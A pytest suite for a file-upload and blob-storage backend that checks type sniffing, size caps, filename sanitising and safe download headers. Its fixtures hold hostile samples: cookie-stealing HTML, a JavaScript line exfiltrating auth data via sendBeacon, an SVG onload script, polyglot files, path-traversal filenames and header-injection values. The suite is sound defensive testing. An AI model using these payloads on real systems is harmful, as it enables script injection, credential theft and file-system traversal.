"""Blob storage: magic-byte typing, streamed capped uploads, content addressing, safe downloads.

Covers the upload attacks: a type lie (HTML/JS/EXE/SVG named .pdf), polyglots, empty files, size
(declared and streamed), filenames with paths, controls, bidi overrides and excessive length.
"""

from __future__ import annotations

import asyncio
import hashlib
import struct
import tracemalloc
import uuid
import zlib
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from aiohttp import web

from backend.appkeys import BLOBS, SETTINGS
from backend.audit.models import AuditEvent
from backend.auth.principal import Role
from backend.errors import NotFound, PayloadTooLarge, UnsupportedMediaType, ValidationFailed
from backend.storage import blobs as blobs_module
from backend.storage import http as storage_http
from backend.storage.blobs import LocalBlobStore, StoredBlob, prepare_temp_dir
from backend.storage.models import Blob, StoredFile
from backend.storage.names import (
    ascii_fallback,
    content_disposition,
    name_for_kind,
    sanitise_filename,
)
from backend.storage.sniff import ALL_KINDS, AUDIO, EVIDENCE, IMAGES, FileKind, sniff

# ---------------------------------------------------------------- samples ----------------------

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def png(width: int = 1, height: int = 1) -> bytes:
    def chunk(tag: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + tag
            + data
            + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)
        )

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def mp4(
    payload: bytes = b"\x00" * 64, brand: bytes = b"isom", compatible: bytes = b"isomiso2avc1mp41"
) -> bytes:
    ftyp = b"ftyp" + brand + b"\x00\x00\x02\x00" + compatible
    return (
        struct.pack(">I", len(ftyp) + 4)
        + ftyp
        + struct.pack(">I", len(payload) + 8)
        + b"mdat"
        + payload
    )


PNG = png()
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    b"\xff\xdb\x00\x43\x00" + bytes(64) + b"\xff\xd9"
)
MP4 = mp4()
M4A = mp4(brand=b"M4A ", compatible=b"M4A mp42isom")
MOV = mp4(brand=b"qt  ", compatible=b"qt  ")
HEIC = mp4(brand=b"heic", compatible=b"mif1heic")
WEBM = (
    b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
    b"\x42\x82\x84webm\x42\x87\x81\x04\x42\x85\x81\x02" + b"\x18\x53\x80\x67" + bytes(32)
)
MKV = WEBM.replace(b"\x42\x82\x84webm", b"\x42\x82\x88matroska")
WAV = (
    b"RIFF"
    + struct.pack("<I", 36)
    + b"WAVEfmt "
    + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16)
    + b"data\0\0\0\0"
)
AVI = WAV.replace(b"WAVE", b"AVI ")
OGG = b"OggS\x00\x02" + bytes(20) + b"\x01\x1e\x01vorbis" + bytes(30)
MP3_ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10) + b"\xff\xfb\x90\x64" + bytes(400)
MP3_FRAME = b"\xff\xfb\x90\x64" + bytes(400)
AAC = b"\xff\xf1\x50\x80\x02\x1f\xfc" + bytes(64)
AMR = b"#!AMR\n" + bytes(32)
AMR_WB = b"#!AMR-WB\n" + bytes(32)

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('/api/v1/auth/me').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + bytes(9)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
ZIP = b"PK\x03\x04" + bytes(26)  # also every .docx / .xlsx / .apk
# PDF readers look for "%PDF-" anywhere in the first KiB; a browser sniffs this as HTML.
HTML_THEN_PDF = HTML + b"\n" + PDF
PDF_WITHOUT_VERSION = b"%PDF-" + HTML
BOM_THEN_PDF = b"\xef\xbb\xbf" + PDF
# A valid PNG header with HTML after it: acceptable as a PNG, and must only ever be served as one.
PNG_THEN_HTML = PNG[:33] + HTML

BOUNDARY = "mc-test-boundary-7MA4YWxk"


def multipart(*parts: tuple[str, bytes], boundary: str = BOUNDARY) -> tuple[bytes, dict[str, str]]:
    """A raw multipart/form-data body from (Content-Disposition parameters, content) pairs, so
    tests control every header byte the way an attacker would."""
    out = bytearray()
    for disposition, content in parts:
        out += f"--{boundary}\r\n".encode()
        out += f"Content-Disposition: form-data; {disposition}\r\n".encode()
        out += b"Content-Type: application/pdf\r\n\r\n"
        out += content + b"\r\n"
    out += f"--{boundary}--\r\n".encode()
    return bytes(out), {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def file_part(content: bytes, filename: str = "file.pdf", field: str = "file") -> tuple[str, bytes]:
    escaped = filename.replace("\\", "\\\\").replace('"', '\\"')
    return f'name="{field}"; filename="{escaped}"', content


def text_part(name: str, value: str) -> tuple[str, bytes]:
    return f'name="{name}"', value.encode()


async def upload(
    client: Any,
    headers: dict[str, str],
    content: bytes,
    filename: str = "file.pdf",
    purpose: str | None = "evidence",
) -> Any:
    body, form_headers = multipart(file_part(content, filename))
    params = {"purpose": purpose} if purpose else {}
    return await client.post(
        "/api/v1/files", data=body, params=params, headers={**headers, **form_headers}
    )


def blob_files(app: web.Application) -> list[Path]:
    root = app[SETTINGS].effective_blob_dir
    return sorted(p for p in root.rglob("*") if p.is_file())


def temp_files(app: web.Application) -> list[Path]:
    return sorted((app[SETTINGS].effective_blob_dir / "tmp").glob("*"))


async def chunked(data: bytes, size: int = 64 * 1024) -> AsyncIterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


# ---------------------------------------------------------------- sniffing ---------------------


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, FileKind.PDF),
        (PNG, FileKind.PNG),
        (JPEG, FileKind.JPEG),
        (MP4, FileKind.MP4),
        (mp4(brand=b"mp42"), FileKind.MP4),
        (mp4(brand=b"XXXX", compatible=b"isom"), FileKind.MP4),
        (M4A, FileKind.M4A),
        (WEBM, FileKind.WEBM),
        (WAV, FileKind.WAV),
        (OGG, FileKind.OGG),
        (MP3_ID3, FileKind.MP3),
        (MP3_FRAME, FileKind.MP3),
        (AAC, FileKind.AAC),
        (AMR, FileKind.AMR),
        (AMR_WB, FileKind.AMR_WB),
    ],
)
def test_sniff_recognises_allowed_formats(content: bytes, kind: FileKind) -> None:
    assert sniff(content) is kind


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"%PDF",
        HTML,
        JS,
        EXE,
        ELF,
        SVG,
        GIF,
        ZIP,
        MOV,
        HEIC,
        MKV,
        AVI,
        HTML_THEN_PDF,
        PDF_WITHOUT_VERSION,
        BOM_THEN_PDF,
        b"\x89PNG\r\n\x1a\n" + HTML,
        b"\xff\xd8",
        b"ID3\x09",
        b"\xff\xff\xff\xff",
        b"RIFF",
        b"\x00\x00\x00\x18ftyp",
    ],
    ids=lambda c: c[:12].hex() or "empty",
)
def test_sniff_refuses_everything_else(content: bytes) -> None:
    assert sniff(content) is None


def test_kinds_have_media_types_and_extensions() -> None:
    for kind in FileKind:
        assert "/" in kind.media_type and kind.extension.startswith(".")
        assert kind.extension in kind.extensions
    assert EVIDENCE == ALL_KINDS and IMAGES < EVIDENCE and AUDIO < EVIDENCE


# ---------------------------------------------------------------- names ------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("证据一.pdf", "证据一.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\System32\\evil.pdf", "evil.pdf"),
        ("C:\\Users\\张三\\Desktop\\合同.pdf", "合同.pdf"),
        ("/abs/path/", ""),
        ("..", ""),
        (".htaccess", "htaccess"),
        ("a\x00b\x01c\x1b[31m\r\nd.pdf", "abc[31m d.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # right-to-left override stripped
        ("zero\u200bwidth.pdf", "zerowidth.pdf"),
        ('a"b<c>d|e?f*g:h.pdf', "a_b_c_d_e_f_g_h.pdf"),
        ("  spaced \t name .pdf  ", "spaced name.pdf"),
        ("trailing dots...", "trailing dots"),
        (None, ""),
    ],
)
def test_sanitise_filename(raw: str | None, expected: str) -> None:
    assert sanitise_filename(raw) == expected


def test_sanitise_bounds_long_names_and_keeps_the_extension() -> None:
    name = sanitise_filename("起" * 1000 + ".pdf")
    assert name.endswith(".pdf") and len(name) <= 100 and len(name.encode()) <= 240
    assert sanitise_filename("a" * 5000) == "a" * 100


@pytest.mark.parametrize(
    ("raw", "kind", "expected"),
    [
        ("scan.PDF", FileKind.PDF, "scan.PDF"),
        ("photo.jpeg", FileKind.JPEG, "photo.jpeg"),
        ("evil.html", FileKind.PNG, "evil.html.png"),
        ("report.v2", FileKind.PDF, "report.v2.pdf"),
        ("payload.exe", FileKind.PDF, "payload.exe.pdf"),
        ("", FileKind.MP4, "file.mp4"),
        ("../", FileKind.WAV, "file.wav"),
        ("CON.pdf", FileKind.PDF, "_CON.pdf"),
        ("nul", FileKind.PNG, "_nul.png"),
    ],
)
def test_name_for_kind_forces_a_matching_extension(raw: str, kind: FileKind, expected: str) -> None:
    assert name_for_kind(raw, kind) == expected


def test_content_disposition_rfc6266() -> None:
    header = content_disposition('起诉状 (2024) ;"x".pdf')
    assert header.startswith('attachment; filename="')
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii() and fallback.endswith(".pdf")
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert " " not in encoded and ";" not in encoded and '"' not in encoded
    assert unquote(encoded) == '起诉状 (2024) ;"x".pdf'
    assert ascii_fallback("起诉状.pdf") == "file.pdf"
    assert ascii_fallback("Café résumé.pdf") == "Cafe resume.pdf"


# ---------------------------------------------------------------- the store --------------------


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[LocalBlobStore]:
    local = await LocalBlobStore.create(tmp_path / "blobs")
    yield local
    await local.close()


async def test_store_put_open_exists_delete(store: LocalBlobStore) -> None:
    blob = await store.put(chunked(PDF, 7), max_bytes=1024, allowed=EVIDENCE)
    assert blob == StoredBlob(hashlib.sha256(PDF).hexdigest(), len(PDF), FileKind.PDF)
    path = store.root / blob.sha256[:2] / blob.sha256
    assert path.read_bytes() == PDF
    assert path.stat().st_mode & 0o777 == 0o600
    assert await store.exists(blob.sha256)
    async with await store.open(blob.sha256) as reader:
        assert reader.size == len(PDF)
        assert b"".join([c async for c in reader]) == PDF
    assert await store.read_bytes(blob.sha256, max_bytes=1024) == PDF
    with pytest.raises(PayloadTooLarge):
        await store.read_bytes(blob.sha256, max_bytes=10)
    await store.delete(blob.sha256)
    await store.delete(blob.sha256)  # idempotent
    assert not await store.exists(blob.sha256)
    with pytest.raises(NotFound):
        await store.open(blob.sha256)
    assert list(store.tmp_dir.iterdir()) == []


async def test_store_same_content_is_one_blob(store: LocalBlobStore) -> None:
    first = await store.put(chunked(PNG, 5), max_bytes=4096, allowed=IMAGES)
    second = await store.put_bytes(PNG, allowed=IMAGES)
    assert first == second
    files = [p for p in store.root.rglob("*") if p.is_file()]
    assert files == [store.root / first.sha256[:2] / first.sha256]


@pytest.mark.parametrize(
    "digest", ["../../etc/passwd", "A" * 64, "0" * 63, "", "0" * 64 + "/x", "tmp"]
)
async def test_store_digest_is_never_a_path(store: LocalBlobStore, digest: str) -> None:
    assert not await store.exists(digest)
    with pytest.raises(NotFound):
        await store.open(digest)
    with pytest.raises(NotFound):
        await store.delete(digest)


async def test_store_refusals_leave_nothing_behind(store: LocalBlobStore) -> None:
    with pytest.raises(PayloadTooLarge):
        await store.put(chunked(PDF + bytes(5000), 100), max_bytes=1000, allowed=EVIDENCE)
    with pytest.raises(UnsupportedMediaType) as refused:
        await store.put(chunked(HTML * 20), max_bytes=10_000, allowed=EVIDENCE)
    assert refused.value.code == "unrecognised_file_type"
    with pytest.raises(UnsupportedMediaType) as not_allowed:
        await store.put(chunked(PDF), max_bytes=10_000, allowed=IMAGES)
    assert not_allowed.value.code == "file_type_not_allowed"
    assert not_allowed.value.extra["detected"] == "application/pdf"
    with pytest.raises(ValidationFailed):
        await store.put(chunked(b""), max_bytes=10, allowed=EVIDENCE)
    assert [p for p in store.root.rglob("*") if p.is_file()] == []


async def test_store_stops_reading_once_the_type_is_refused(store: LocalBlobStore) -> None:
    consumed = 0

    async def endless_html() -> AsyncIterator[bytes]:
        nonlocal consumed
        while True:
            consumed += 1
            yield HTML

    with pytest.raises(UnsupportedMediaType):
        await store.put(endless_html(), max_bytes=10**9, allowed=EVIDENCE)
    assert consumed * len(HTML) < 2048


async def test_store_cleans_up_when_the_upload_is_cancelled(store: LocalBlobStore) -> None:
    started = asyncio.Event()

    async def stalls() -> AsyncIterator[bytes]:
        yield PDF
        started.set()
        await asyncio.sleep(3600)
        yield b""

    task = asyncio.create_task(store.put(stalls(), max_bytes=10**6, allowed=EVIDENCE))
    await started.wait()
    assert len(list(store.tmp_dir.iterdir())) == 1
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert list(store.tmp_dir.iterdir()) == []


def test_stale_temp_files_are_cleared(tmp_path: Path) -> None:
    import os

    tmp = tmp_path / "tmp"
    tmp.mkdir()
    stale, fresh = tmp / "old.part", tmp / "new.part"
    stale.write_bytes(b"x")
    fresh.write_bytes(b"y")
    os.utime(stale, (0, 0))
    prepare_temp_dir(tmp)
    assert not stale.exists() and fresh.exists()


# ---------------------------------------------------------------- HTTP ------------------------


@pytest.fixture
def settings(settings_factory: Callable[..., Any], request: pytest.FixtureRequest) -> Any:
    # Indirect parametrisation overrides settings per test, e.g. a small max_upload_bytes.
    return settings_factory(**getattr(request, "param", {}))


async def test_upload_and_download_pdf(client: Any, accounts: Any, app: web.Application) -> None:
    account, headers = await accounts.headers(Role.LITIGANT)
    resp = await upload(client, headers, PDF, "起诉状.pdf", purpose="document")
    assert resp.status == 201, await resp.text()
    body = await resp.json()
    assert body["sha256"] == hashlib.sha256(PDF).hexdigest()
    assert body["size"] == len(PDF)
    assert body["media_type"] == "application/pdf" and body["kind"] == "pdf"
    assert body["original_name"] == "起诉状.pdf" and body["purpose"] == "document"
    assert resp.headers["Location"] == f"/api/v1/files/{body['id']}"

    resp = await client.get(f"/api/v1/files/{body['id']}", headers=headers)
    assert resp.status == 200
    assert (await resp.json())["sha256"] == body["sha256"]

    resp = await client.get(
        f"/api/v1/files/{body['id']}/content", headers={**headers, "X-Request-Id": "dl-req-0001"}
    )
    assert resp.status == 200
    assert resp.headers["X-Request-Id"] == "dl-req-0001"  # set before streaming starts
    assert await resp.read() == PDF
    assert resp.headers["Content-Type"] == "application/pdf"
    assert resp.headers["Content-Length"] == str(len(PDF))
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Cache-Control"] == "no-store"
    disposition = resp.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="file.pdf"; ')
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "起诉状.pdf"
    assert "sandbox" in resp.headers["Content-Security-Policy"]

    stored = await StoredFile.get(id=body["id"]).prefetch_related("blob")
    assert stored.owner_account_id == account.id
    assert blob_files(app) == [
        app[SETTINGS].effective_blob_dir / body["sha256"][:2] / body["sha256"]
    ]
    event = await AuditEvent.get(action="file.uploaded", resource_id=body["id"])
    assert event.actor_subject == str(account.id)
    assert event.details == {
        "sha256": body["sha256"],
        "size": len(PDF),
        "purpose": "document",
        "media_type": "application/pdf",
    }


async def test_upload_and_download_png_with_form_purpose(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    content = png(16, 16)
    body, form_headers = multipart(
        text_part("purpose", "id_document"), file_part(content, "身份证 正面.PNG")
    )
    resp = await client.post("/api/v1/files", data=body, headers={**headers, **form_headers})
    assert resp.status == 201, await resp.text()
    out = await resp.json()
    assert out["media_type"] == "image/png" and out["purpose"] == "id_document"
    resp = await client.get(f"/api/v1/files/{out['id']}/content", headers=headers)
    assert await resp.read() == content
    assert resp.headers["Content-Type"] == "image/png"
    assert unquote(resp.headers["Content-Disposition"].split("''")[1]) == "身份证 正面.PNG"


async def test_rfc5987_filename_from_the_client_round_trips(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    name = "民事起诉状（张三诉李四）.pdf"
    from urllib.parse import quote

    body, form_headers = multipart((f"name=\"file\"; filename*=UTF-8''{quote(name)}", PDF))
    resp = await client.post(
        "/api/v1/files?purpose=evidence", data=body, headers={**headers, **form_headers}
    )
    assert resp.status == 201, await resp.text()
    file_id = (await resp.json())["id"]
    resp = await client.get(f"/api/v1/files/{file_id}/content", headers=headers)
    assert unquote(resp.headers["Content-Disposition"].split("filename*=UTF-8''")[1]) == name


async def test_aiohttp_formdata_upload(client: Any, accounts: Any) -> None:
    # What a typical client library sends, rather than hand-built bytes.
    import aiohttp

    _, headers = await accounts.headers(Role.LITIGANT)
    form = aiohttp.FormData()
    form.add_field("purpose", "evidence")
    form.add_field("file", MP3_ID3, filename="录音 2024-05-01.mp3", content_type="text/html")
    resp = await client.post("/api/v1/files", data=form, headers=headers)
    assert resp.status == 201, await resp.text()
    out = await resp.json()
    assert out["media_type"] == "audio/mpeg"  # from the bytes, not the claimed text/html
    assert out["original_name"] == "录音 2024-05-01.mp3"


async def test_same_content_twice_is_one_blob(
    client: Any, accounts: Any, app: web.Application
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    _, other = await accounts.headers(Role.LAWYER)
    first = await (await upload(client, headers, PDF, "a.pdf")).json()
    second = await (await upload(client, other, PDF, "b.pdf")).json()
    assert first["id"] != second["id"] and first["sha256"] == second["sha256"]
    assert await Blob.filter(sha256=first["sha256"]).count() == 1
    assert await StoredFile.filter(blob_id=first["sha256"]).count() == 2
    assert len(blob_files(app)) == 1
    for file_id, h in ((first["id"], headers), (second["id"], other)):
        resp = await client.get(f"/api/v1/files/{file_id}/content", headers=h)
        assert await resp.read() == PDF


@pytest.mark.parametrize(
    ("content", "filename", "code"),
    [
        (HTML, "judgment.pdf", "unrecognised_file_type"),
        (JS, "evidence.pdf", "unrecognised_file_type"),
        (EXE, "scan.pdf", "unrecognised_file_type"),
        (ELF, "photo.jpg", "unrecognised_file_type"),
        (SVG, "photo.png", "unrecognised_file_type"),
        (ZIP, "contract.pdf", "unrecognised_file_type"),
        (GIF, "sticker.gif", "unrecognised_file_type"),
        (HTML_THEN_PDF, "polyglot.pdf", "unrecognised_file_type"),
        (PDF_WITHOUT_VERSION, "polyglot.pdf", "unrecognised_file_type"),
        (MKV, "video.webm", "unrecognised_file_type"),
        (MOV, "video.mp4", "unrecognised_file_type"),
    ],
)
async def test_type_lies_are_refused(
    client: Any, accounts: Any, app: web.Application, content: bytes, filename: str, code: str
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    resp = await upload(client, headers, content, filename)
    assert resp.status == 415, await resp.text()
    problem = await resp.json()
    assert problem["code"] == code
    assert resp.headers["Content-Type"].startswith("application/problem+json")
    assert blob_files(app) == [] and await StoredFile.all().count() == 0


async def test_allowed_type_but_not_for_this_purpose(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    resp = await upload(client, headers, PDF, "id.jpg", purpose="id_document")
    assert resp.status == 415
    problem = await resp.json()
    assert problem["code"] == "file_type_not_allowed"
    assert problem["detected"] == "application/pdf"
    assert problem["allowed"] == ["image/jpeg", "image/png"]
    resp = await upload(client, headers, MP4, "voice.mp3", purpose="voice")
    assert resp.status == 415


async def test_polyglot_png_is_only_ever_served_as_png(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    resp = await upload(client, headers, PNG_THEN_HTML, "index.html", purpose="document")
    assert resp.status == 201
    out = await resp.json()
    assert out["original_name"] == "index.html.png"
    resp = await client.get(f"/api/v1/files/{out['id']}/content", headers=headers)
    assert resp.headers["Content-Type"] == "image/png"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["Content-Disposition"].startswith('attachment; filename="index.html.png"')


async def test_empty_file_is_refused(client: Any, accounts: Any, app: web.Application) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    resp = await upload(client, headers, b"", "empty.pdf")
    assert resp.status == 422
    assert (await resp.json())["code"] == "empty_file"
    assert blob_files(app) == []


@pytest.mark.parametrize(
    ("filename", "stored"),
    [
        ("../../../../etc/cron.d/evil.pdf", "evil.pdf"),
        ("..\\..\\..\\Windows\\Start Menu\\evil.pdf", "evil.pdf"),
        ("/var/lib/mobile-court/blobs/ab/abcdef.pdf", "abcdef.pdf"),
        ("evidence\u202efdp.exe", "evidencefdp.exe.pdf"),
        ("..", "file.pdf"),
        ("", "file.pdf"),
        ("x" * 3000 + ".pdf", "x" * 96 + ".pdf"),
        ("100%.pdf", "100%.pdf"),
        ("%E8%AF%81%E6%8D%AE%22%0D%0A.pdf", "证据_.pdf"),
    ],
)
async def test_filename_attacks(
    client: Any, accounts: Any, app: web.Application, filename: str, stored: str
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    resp = await upload(client, headers, PDF, filename)
    assert resp.status == 201, await resp.text()
    out = await resp.json()
    assert out["original_name"] == stored
    # Storage names come from the content only.
    assert [p.name for p in blob_files(app)] == [out["sha256"]]
    resp = await client.get(f"/api/v1/files/{out['id']}/content", headers=headers)
    disposition = resp.headers["Content-Disposition"]
    assert disposition.count(";") == 2 and disposition.isascii()
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == stored


@pytest.mark.parametrize(
    "disposition",
    [
        'name="file"; filename="a\x01b\x7fc\x1b[2Jd.pdf"',
        'name="file"; filename="x\\"; filename=\\"evil.html"',
        'name="file"; filename="a.pdf"\r\nContent-Type: text/html',
        'name="file"; filename="a.pdf"; filename="b.html"',
    ],
)
async def test_malformed_part_headers_are_refused(
    client: Any, accounts: Any, disposition: str
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    body, form_headers = multipart((disposition, PDF))
    resp = await client.post(
        "/api/v1/files?purpose=evidence", data=body, headers={**headers, **form_headers}
    )
    assert resp.status in (400, 422), await resp.text()
    assert await StoredFile.all().count() == 0


async def test_control_characters_via_rfc5987(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    body, form_headers = multipart(
        ("name=\"file\"; filename*=UTF-8''..%2F..%2Fa%00b%0D%0AX-Injected%3A%201%E2%80%AE.pdf", PDF)
    )
    resp = await client.post(
        "/api/v1/files?purpose=evidence", data=body, headers={**headers, **form_headers}
    )
    assert resp.status == 201, await resp.text()
    out = await resp.json()
    assert out["original_name"] == "ab X-Injected_ 1.pdf"
    resp = await client.get(f"/api/v1/files/{out['id']}/content", headers=headers)
    assert "X-Injected" not in resp.headers


@pytest.mark.parametrize("settings", [{"max_upload_bytes": 64 * 1024}], indirect=True)
async def test_oversized_upload_streamed_is_413_and_leaves_nothing(
    client: Any, accounts: Any, app: web.Application
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    content = PDF + bytes(200 * 1024)
    body, form_headers = multipart(file_part(content, "big.pdf"))
    # Chunked: no Content-Length, so only the streaming cap can stop it.
    resp = await client.post(
        "/api/v1/files?purpose=evidence",
        data=chunked(body, 8192),
        headers={**headers, **form_headers},
    )
    assert resp.status == 413, await resp.text()
    problem = await resp.json()
    assert problem["code"] == "payload_too_large" and problem["max_bytes"] == 64 * 1024
    assert temp_files(app) == [] and blob_files(app) == []
    assert await StoredFile.all().count() == 0 and await Blob.all().count() == 0


@pytest.mark.parametrize("settings", [{"max_upload_bytes": 64 * 1024}], indirect=True)
async def test_oversized_upload_declared_is_refused_before_reading(
    client: Any, accounts: Any, app: web.Application
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    body, form_headers = multipart(file_part(PDF + bytes(300 * 1024), "big.pdf"))
    resp = await client.post(
        "/api/v1/files?purpose=evidence", data=body, headers={**headers, **form_headers}
    )
    assert resp.status == 413
    assert temp_files(app) == []
    # At the cap exactly is fine.
    exact = PDF + bytes(64 * 1024 - len(PDF))
    resp = await upload(client, headers, exact, "exact.pdf")
    assert resp.status == 201, await resp.text()
    assert (await resp.json())["size"] == 64 * 1024


async def test_large_upload_is_streamed_not_buffered(
    client: Any, accounts: Any, app: web.Application, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    size = 20 * 1024 * 1024
    store = app[BLOBS]
    seen: dict[str, Any] = {"chunks": 0, "largest_chunk": 0, "largest_batch": 0}
    real_put, real_write = store.put, blobs_module._write_batch

    async def spy_put(chunks: Any, **kw: Any) -> StoredBlob:
        assert hasattr(chunks, "__anext__"), "the store must receive an async iterator"
        seen["iterator"] = type(chunks).__name__

        async def counted() -> AsyncIterator[bytes]:
            async for chunk in chunks:
                seen["chunks"] += 1
                seen["largest_chunk"] = max(seen["largest_chunk"], len(chunk))
                yield chunk

        return await real_put(counted(), **kw)

    def spy_write(fh: Any, digest: Any, batch: list[bytes]) -> None:
        seen["largest_batch"] = max(seen["largest_batch"], sum(map(len, batch)))
        real_write(fh, digest, batch)

    monkeypatch.setattr(store, "put", spy_put)
    monkeypatch.setattr(blobs_module, "_write_batch", spy_write)

    digest = hashlib.sha256()
    head = mp4(b"")

    async def body() -> AsyncIterator[bytes]:
        # The client streams too, so the process never holds 20 MB anywhere.
        yield (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="hearing.mp4"\r\n\r\n'
        ).encode()
        digest.update(head)
        yield head
        block = bytes(range(256)) * 256
        for _ in range((size - len(head)) // len(block)):
            digest.update(block)
            yield block
        tail = bytes(size - len(head) - (size - len(head)) // len(block) * len(block))
        digest.update(tail)
        yield tail
        yield f"\r\n--{BOUNDARY}--\r\n".encode()

    tracemalloc.start()
    try:
        resp = await client.post(
            "/api/v1/files?purpose=evidence",
            data=body(),
            headers={**headers, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert resp.status == 201, await resp.text()
    out = await resp.json()
    assert out["size"] == size and out["sha256"] == digest.hexdigest()
    assert seen["chunks"] >= size // storage_http.PART_CHUNK
    assert seen["largest_chunk"] <= storage_http.PART_CHUNK
    assert seen["largest_batch"] <= blobs_module.WRITE_BATCH + storage_http.PART_CHUNK
    assert peak < 8 * 1024 * 1024, f"peak traced memory {peak} bytes for a 20 MB upload"


async def test_only_the_owner_sees_a_file(client: Any, accounts: Any) -> None:
    _, owner = await accounts.headers(Role.LITIGANT)
    _, stranger = await accounts.headers(Role.LITIGANT)
    _, judge = await accounts.headers(Role.JUDGE, court_code="110101")
    file_id = (await (await upload(client, owner, PDF)).json())["id"]
    for headers in (stranger, judge):
        for path in (f"/api/v1/files/{file_id}", f"/api/v1/files/{file_id}/content"):
            resp = await client.get(path, headers=headers)
            assert resp.status == 404
            assert (await resp.json())["detail"] == "no such file"
    for missing in (str(uuid.uuid4()), "not-a-uuid", "..%2F..%2Fetc%2Fpasswd"):
        resp = await client.get(f"/api/v1/files/{missing}/content", headers=owner)
        assert resp.status == 404


async def test_unauthenticated_is_401(client: Any, accounts: Any) -> None:
    _, owner = await accounts.headers(Role.LITIGANT)
    file_id = (await (await upload(client, owner, PDF)).json())["id"]
    body, form_headers = multipart(file_part(PDF))
    resp = await client.post("/api/v1/files?purpose=evidence", data=body, headers=form_headers)
    assert resp.status == 401
    for path in (f"/api/v1/files/{file_id}", f"/api/v1/files/{file_id}/content"):
        assert (await client.get(path)).status == 401


@pytest.mark.parametrize(
    ("content_type", "data"),
    [
        ("application/json", b'{"file": "JVBERi0xLjcK"}'),
        ("application/pdf", PDF),
        ("application/octet-stream", PDF),
        ("application/x-www-form-urlencoded", b"file=%25PDF-1.7"),
        ("text/plain", b"hello"),
    ],
)
async def test_non_multipart_is_415(
    client: Any, accounts: Any, content_type: str, data: bytes
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    resp = await client.post(
        "/api/v1/files?purpose=evidence",
        data=data,
        headers={**headers, "Content-Type": content_type},
    )
    assert resp.status == 415
    assert (await resp.json())["code"] == "unsupported_media_type"


async def test_form_problems(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)

    async def post(
        *parts: tuple[str, bytes], query: str = "?purpose=evidence", raw: bytes | None = None
    ) -> tuple[int, dict[str, Any]]:
        body, form_headers = multipart(*parts)
        resp = await client.post(
            f"/api/v1/files{query}",
            data=raw if raw is not None else body,
            headers={**headers, **form_headers},
        )
        return resp.status, await resp.json()

    status, problem = await post(text_part("note", "hi"))
    assert (status, problem["errors"][0]["field"]) == (422, "note")
    status, problem = await post()
    assert (status, problem["errors"][0]["field"]) == (422, "file")
    status, problem = await post(file_part(PDF, field="document"))
    assert (status, problem["errors"][0]["field"]) == (422, "document")
    status, problem = await post(file_part(PDF), query="")
    assert (status, problem["errors"][0]["field"]) == (422, "purpose")
    status, problem = await post(text_part("purpose", "selfie"), file_part(PDF), query="")
    assert (status, problem["errors"][0]["field"]) == (422, "purpose")
    status, problem = await post(text_part("purpose", "voice"), file_part(PDF))
    assert (status, problem["errors"][0]["field"]) == (422, "purpose")
